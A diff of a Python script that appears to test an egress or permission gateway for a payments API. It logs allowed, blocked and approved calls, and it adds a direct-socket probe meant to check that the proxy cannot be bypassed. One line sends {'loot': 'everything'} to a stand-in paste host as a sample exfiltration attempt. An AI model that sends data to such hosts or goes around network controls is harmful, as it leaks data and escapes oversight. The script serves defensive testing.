@@ -2,6 +2,7 @@
 
 import json
 import os
+import socket
 import urllib.error
 import urllib.request
 
@@ -27,10 +28,24 @@ def call(method, url, body=None):
         return {"status": refusal.code, "answer": json.load(refusal)}
 
 
-say("started", pid=os.getpid(), url=PAYMENTS)
+def go_around():
+    """Whatever a program may try by itself."""
+    try:
+        socket.create_connection(("192.0.2.1", 8443), timeout=5).close()
+        return ""
+    except OSError as error:
+        return str(error)
+
+
+say("started", url=PAYMENTS)
 say("allowed", **call("GET", PAYMENTS + "/v1/charges"))
 say("unregistered", **call("POST", "http://pastebin.example/upload", {"loot": "everything"}))
 say("policy", **call("DELETE", PAYMENTS + "/v1/charges/ch_1"))
 say("capability", **call("GET", PAYMENTS + "/v1/balance"))
 say("asking")
 say("approved", **call("POST", PAYMENTS + "/v1/refunds", {"charge": "ch_1", "amount": 4200, "reason": "damaged"}))
+if "DEMO_FENCE" in os.environ:
+    API = "http://127.0.0.1:@PORT@"
+    urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler({})))
+    say("direct", url=API, **call("GET", API + "/v1/charges"))
+    say("around", to="192.0.2.1:8443", error=go_around())
